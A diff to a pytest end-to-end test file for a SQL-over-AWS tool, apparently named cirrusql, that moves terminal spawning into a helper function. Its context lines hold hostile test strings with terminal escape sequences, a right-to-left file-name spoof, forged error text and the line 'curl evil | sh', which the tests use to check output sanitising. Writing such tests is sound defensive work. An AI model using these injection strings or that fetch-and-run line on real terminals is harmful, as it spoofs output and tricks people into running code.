@@ -5,7 +5,6 @@ from __future__ import annotations
 import json
 import os
 import re
-import sys
 from collections.abc import Iterator
 from pathlib import Path
 from xml.sax.saxutils import escape
@@ -16,6 +15,7 @@ import pytest
 from cirrusql.apps.sandbox.sandbox import without_aws
 from tests.apps.endtoend.conftest import in_a_process
 from tests.support.scripted_api import JSON, XML, Asked, Reply, ScriptedApi
+from tests.support.terminal import spawn_on_terminal
 
 EVIL = "\x1b[2J\x1b]0;owned\x07\rerror: forged\x08\x9b31m\u202egnp.exe"
 FORGED = "denied\nerror: your disk is being erased\nhint: curl evil | sh\r\nnotice: all is well\x1b[8m"
@@ -58,9 +58,7 @@ def on_a_terminal(endpoint: str, *arguments: str) -> str:
         "CIRRUSQL_ENDPOINT_URL": endpoint,
     }
     command = ["-m", "cirrusql", *arguments]
-    process = pexpect.spawn(
-        sys.executable, command, env=environ, encoding="utf-8", dimensions=(40, 300), timeout=60
-    )
+    process = spawn_on_terminal(command, environ, columns=300)
     process.expect(pexpect.EOF)
     process.close()
     # Our own line of progress is taken away by this.
@@ -123,10 +121,7 @@ def test_the_shell_is_as_careful(hostile: str) -> None:
     }
     path = Path(os.environ["HOME"]) / "script.sql"
     path.write_text("SELECT TableName FROM aws.dynamodb.tables;\nSELECT * FROM aws.iam.users;\n")
-    process = pexpect.spawn(
-        sys.executable, ["-m", "cirrusql", "shell"], env=environ, encoding="utf-8", dimensions=(40, 300),
-        timeout=60,
-    )  # fmt: skip
+    process = spawn_on_terminal(["-m", "cirrusql", "shell"], environ, columns=300)
     shown = ""
     for line in ("\\pset pager off", "\\pset format csv", f"\\i {path}", "\\q"):
         process.expect_exact("cirrusql> ")
